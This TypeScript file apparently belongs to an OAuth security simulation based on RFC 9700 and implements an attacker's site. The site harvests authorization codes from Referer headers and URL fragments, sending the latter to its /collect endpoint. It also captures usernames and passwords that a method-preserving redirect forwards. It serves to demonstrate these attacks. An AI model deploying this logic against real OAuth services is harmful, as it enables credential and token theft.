/** The attacker’s site: it picks up what browsers bring along, and sends them where it suits the attacker (RFC 9700 §4.1, §4.2, §4.12). */
import { type HttpHandler, header, html, json, parseForm, redirect } from '../../http/index.ts'
import type { Page } from '../../simulation/index.ts'
import { framesPage, thanksPage } from './pages.ts'

/** How the attacker’s site is registered at the authorization server: like any other app. */
export interface FramesConfig {
  readonly authorization_endpoint: string
  readonly client_id: string
  readonly redirect_uri: string
}

/** What has come in. */
export interface Loot {
  code?: string
  username?: string
  password?: string
  photos?: string
}

/** The site. `trap` is where its button leads, once the attacker has prepared something. */
export function createFrames(config: FramesConfig, loot: Loot, trap: () => string | undefined): HttpHandler {
  return async (request) => {
    const { pathname } = new URL(request.url)
    switch (`${request.method} ${pathname}`) {
      case 'GET /': {
        // #region attacker-site
        const referer = header(request, 'referer')
        const code = referer === undefined ? null : new URL(referer).searchParams.get('code')
        if (code !== null) loot.code = code
        return html(200, framesPage(trap() !== undefined))
        // #endregion
      }
      case 'GET /claim':
        // #region attacker-site
        return redirect(trap() ?? '/')
      // #endregion
      case 'POST /collect':
        // #region attacker-site
        loot.code = new Map(parseForm(request.body)).get('code') ?? ''
        return json(200, { ok: true })
      // #endregion
      case 'GET /sign-in': {
        // #region attacker-sign-in
        const onward = new URL(config.authorization_endpoint)
        onward.search = new URLSearchParams({
          response_type: 'code',
          client_id: config.client_id,
          redirect_uri: config.redirect_uri,
          scope: 'openid',
          state: 'frames',
          // The server asks for the password, even of somebody who is signed in there.
          prompt: 'login',
        }).toString()
        return redirect(onward.href)
        // #endregion
      }
      case 'POST /callback': {
        // #region attacker-sign-in
        // A redirect that kept the method kept the form as well.
        const { username, password } = Object.fromEntries(parseForm(request.body))
        if (username !== undefined && password !== undefined) Object.assign(loot, { username, password })
        return html(200, thanksPage())
        // #endregion
      }
      case 'GET /callback':
      case 'GET /landing':
        return html(200, thanksPage())
      default:
        return html(404, 'Not Found')
    }
  }
}

/** The script of the site’s pages: a code behind the # of the address is sent home. */
export async function readFragment({ url, globals }: Page): Promise<void> {
  // #region attacker-site
  const code = new URLSearchParams(url.hash.slice(1)).get('code')
  if (code === null) return
  await globals.fetch('/collect', { method: 'POST', body: new URLSearchParams({ code }) }).catch(() => undefined)
  // #endregion
}
